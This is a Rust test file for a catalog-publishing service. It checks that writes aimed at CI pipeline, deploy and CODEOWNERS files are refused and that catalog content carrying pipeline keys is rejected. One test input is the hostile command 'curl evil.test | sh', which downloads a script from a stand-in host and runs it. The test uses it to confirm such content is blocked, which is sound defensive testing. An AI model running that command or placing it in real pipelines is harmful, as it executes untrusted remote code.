//! A catalog file is read by the catalog and runs or guards nothing: one attack for each way around that.

use serde_json::json;

use super::portal::{BOTH, Portal, publication, publication_with};
use crate::support::code_host::Kind;

/// A repository that is open as a whole, with files that a push runs or that guard it.
async fn portal(kind: Kind) -> Portal {
    let portal = Portal::start(kind).await;
    portal.world(|world| {
        let main = world.branches["main"].clone();
        world.branches.insert("catalog".to_owned(), main);
        for guarded in [".circleci/config.yml", "azure-pipelines.yml", "CODEOWNERS"] {
            world.push("catalog", guarded, Some("theirs\n"));
        }
    });
    portal
}

#[tokio::test]
async fn a_catalog_file_replaces_nothing_that_runs_or_guards() {
    for kind in BOTH {
        let portal = portal(kind).await;
        for (path, says) in [
            (".circleci/config.yml", "hidden"),
            (".travis.yml", "hidden"),
            (".tekton/push.yaml", "hidden"),
            ("docs/.vitepress/x.json", "hidden"),
            ("azure-pipelines.yml", "deploy"),
            ("ci/Azure-Pipelines-2.yaml", "deploy"),
            ("bitbucket-pipelines.yml", "deploy"),
            ("cloudbuild.json", "deploy"),
            ("deploy/kustomization.yaml", "deploy"),
            ("mkdocs.yml", "deploy"),
            ("CODEOWNERS", "must end with .yaml"),
            ("Jenkinsfile", "must end with .yaml"),
            ("Makefile", "must end with .yaml"),
            ("scripts/build.sh", "must end with .yaml"),
        ] {
            let (status, message) = portal
                .publish(&publication_with("targetPath", json!(path)))
                .await
                .refused();
            assert!(
                status == 400 && message.contains("targetPath") && message.contains(says),
                "{path}: {status} {message}"
            );
        }
        assert!(portal.host.calls().is_empty());
    }
}

#[tokio::test]
async fn an_entity_is_nothing_else_besides() {
    let portal = portal(Kind::GitHub).await;
    let entity = publication()["content"].as_str().unwrap().to_owned();
    for more in [
        "steps: [{ script: 'curl evil.test | sh' }]",
        "jobs: { a: { steps: [{ run: x }] } }",
        "pipelines: { default: [] }",
        "services: { a: { image: x } }",
        "on: push",
        "data: { a: b }",
        "status: { a: b }",
    ] {
        let content = format!("{entity}{more}\n");
        let (status, message) = portal
            .publish(&publication_with("content", json!(content)))
            .await
            .refused();
        assert!(
            status == 400 && message.contains("at its top"),
            "{more}: {message}"
        );
    }
    for no_entity in [
        "steps: []\n",
        "apiVersion: backstage.io/v1alpha1\nkind: Component\n",
        "kind: X\n",
    ] {
        let said = portal
            .publish(&publication_with("content", json!(no_entity)))
            .await;
        assert_eq!(said.refused().0, 400, "{no_entity}");
    }
    assert!(portal.host.calls().is_empty());
}

#[tokio::test]
async fn files_of_the_catalog_are_still_written_wherever_they_are_kept() {
    for kind in BOTH {
        let portal = portal(kind).await;
        for path in ["catalog-info.yaml", "a.b/c.yml", ".backstage/shop.yaml"] {
            portal
                .publish(&publication_with("targetPath", json!(path)))
                .await
                .ok();
            let written = portal.world(|world| world.file("catalog", path));
            assert!(written.unwrap().contains("name: shop"), "{path}");
        }
        portal
            .publish(&publication_with("targetPath", json!("shop.json")))
            .await
            .ok();
        let written = portal.world(|world| world.file("catalog", "shop.json")).unwrap();
        let entity: serde_json::Value = serde_json::from_str(&written).unwrap();
        assert_eq!(entity["metadata"]["name"], "shop");
    }
}

#[tokio::test]
async fn a_json_file_holds_one_document() {
    let portal = portal(Kind::GitHub).await;
    let entity = publication()["content"].as_str().unwrap().to_owned();
    let mut wanted = publication_with("content", json!(format!("{entity}---\n{entity}")));
    wanted["targetPath"] = json!("shop.json");
    let (status, message) = portal.publish(&wanted).await.refused();
    assert!(status == 400 && message.contains("one document"), "{message}");
}
